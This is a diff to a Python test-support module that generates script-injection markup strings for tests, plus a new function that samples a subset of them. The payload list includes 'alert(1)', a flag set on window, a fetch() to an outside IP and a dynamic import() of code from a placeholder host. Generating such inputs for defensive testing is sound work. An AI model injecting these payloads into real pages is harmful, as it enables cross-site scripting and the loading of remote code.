@@ -2,6 +2,8 @@
 
 from itertools import product
 
+from tests.support.soak import share
+
 #: What would run it: a flag that a test reads, a dialog, a request to another host.
 _DOES = ("window.pwned=1", "alert(1)", "fetch('http://198.51.100.7/')", "import('http://x.test/')")
 _FORMS = (
@@ -63,3 +65,9 @@ def markup_strings() -> list[str]:
     found = [form.format(does) for form, does in product(_FORMS, _DOES)]
     assert len(set(found)) == 200
     return found
+
+
+def some_markup_strings() -> list[str]:
+    """Each form once, with what it does in turns; in ``make soak`` each with all."""
+    whole = enumerate(markup_strings())
+    return [one for at, one in whole if share() or at % 4 == at // 4 % 4]
